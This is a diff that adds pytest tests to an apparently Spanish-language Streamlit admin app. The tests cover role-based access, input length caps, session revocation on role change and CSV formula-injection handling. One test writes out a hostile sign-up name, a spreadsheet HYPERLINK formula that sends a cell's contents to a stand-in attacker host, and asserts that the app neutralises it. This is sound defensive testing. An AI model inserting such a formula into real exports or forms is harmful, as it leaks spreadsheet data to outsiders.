@@ -55,3 +55,34 @@ def test_manager_cannot_open_the_users_page(demo_data, users):
         goto(at, "admin.py")  # not even registered in this role's navigation
     with pytest.raises(core_users.PermissionDenied):
         core_users.list_users(users["manager"])
+
+
+def test_users_table_neutralises_names_a_spreadsheet_would_run(demo_data, users):
+    """A sign-up name reaches the table, and the table's toolbar downloads it as CSV for Excel."""
+    hostile = '=HYPERLINK("http://atacante.example/?d="&A1,"Ver")'
+    core_users.register(email="formula@pruebas.devcompras.mx", name=hostile, password="segura123")
+    at = goto(login(users["admin"].email), "admin.py")
+    table = at.dataframe[0].value
+    shown = table.loc[table["Correo"] == "formula@pruebas.devcompras.mx", "Nombre"].tolist()
+    assert shown == ["'" + hostile]
+    assert not table["Nombre"].astype(str).str.match(r"[=+\-@\t\r]").any()
+
+
+def test_admin_form_caps_its_inputs(demo_data, users):
+    at = goto(login(users["admin"].email), "admin.py")
+    caps = {key: at.text_input(key=key).max_chars for key in ("nu_nombre", "nu_correo", "nu_clave")}
+    assert caps == {"nu_nombre": 255, "nu_correo": 254, "nu_clave": 72}
+
+
+def test_changing_a_role_ends_that_accounts_sessions(demo_data, users):
+    account = core_users.create_user(None, email="rol-cambia@pruebas.devcompras.mx", name="Rol", role="viewer",
+                                     password="Correcta123")
+    theirs = login(account.email, "Correcta123")
+    assert [t.value for t in theirs.title] == ["Tablero"]
+    at = goto(login(users["admin"].email), "admin.py")
+    at.selectbox(key="edit_cuenta").select(account.email).run()
+    at.selectbox(key=f"edit_rol_{account.id}").select("user")
+    at.button(key="edit_guardar").click().run()
+    assert [s.value for s in at.success] == [f"Cambios guardados para {account.email}."]
+    theirs.run()
+    assert theirs.text_input(key="login_email") is not None and not theirs.metric
